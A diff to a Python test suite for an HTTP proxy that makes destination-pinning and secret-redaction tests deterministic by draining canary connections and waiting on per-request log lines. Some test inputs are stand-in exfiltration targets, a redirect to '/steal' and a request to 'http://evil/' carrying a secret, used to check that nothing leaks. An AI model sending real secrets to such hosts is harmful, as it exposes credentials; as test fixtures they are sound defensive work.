@@ -66,6 +66,20 @@ class Canary:
             self.accepts += 1
             conn.close()
 
+    def total(self) -> int:
+        """Every connection made so far, counting those still in the accept queue: the kernel
+        completes a loopback handshake before a connect returns, so nothing needs waiting for."""
+        self._stop.set()
+        self._thread.join(2)
+        self.sock.setblocking(False)
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except BlockingIOError:
+                return self.accepts
+            self.accepts += 1
+            conn.close()
+
     def close(self) -> None:
         self._stop.set()
         self._thread.join(2)
@@ -414,8 +428,7 @@ class TestDestinationPinning:
             assert r.status == 302
             assert r.header("location") == [f"http://{c}/steal"]
             assert len(upstream.requests_for(redirect)) == 1
-            time.sleep(0.1)
-            assert canary.accepts == 0
+            assert canary.total() == 0
         finally:
             canary.close()
 
@@ -478,6 +491,7 @@ class TestSecretRedaction:
         body = json.dumps({"model": "gpt-4o", "stream": True, "api_key": secrets["body"]}).encode()
         target = f"/v1/chat/completions?key={secrets['q']}&api_key={secrets['q']}"
         bodies: list[bytes] = []
+        rids = [uuid.uuid4().hex for _ in range(5)]
         scenarios = [
             sse_scenario(EVENTS),
             Scenario(
@@ -489,7 +503,9 @@ class TestSecretRedaction:
         for i, scenario in enumerate(scenarios):
             key = upstream.add(scenario)
             request = build_request(
-                target=target, headers=[*headers, ("x-h1-scenario", key)], body=body
+                target=target,
+                headers=[*headers, ("x-h1-scenario", key), ("x-request-id", rids[i])],
+                body=body,
             )
             if i == 3:
                 client = RawClient(proxy.port)
@@ -503,9 +519,14 @@ class TestSecretRedaction:
             assert upstream.requests_for(key)[-1].header("authorization") == [
                 f"Bearer sk-{secrets['auth']}"
             ]
-        bad = build_request(target=f"http://evil/{secrets['q']}", headers=headers, body=body)
+        bad = build_request(
+            target=f"http://evil/{secrets['q']}",
+            headers=[*headers, ("x-request-id", rids[4])],
+            body=body,
+        )
         bodies.append(bytes(exchange(proxy.port, bad).body))
-        time.sleep(0.2)  # let the last log lines land (they are flushed per line)
+        for rid in rids:  # every request's last line is written: nothing more is coming
+            proxy.record(rid, timeout=LATE)
         sinks = {
             "logs": "".join(proxy.lines),
             "metrics": proxy.metrics_text(),
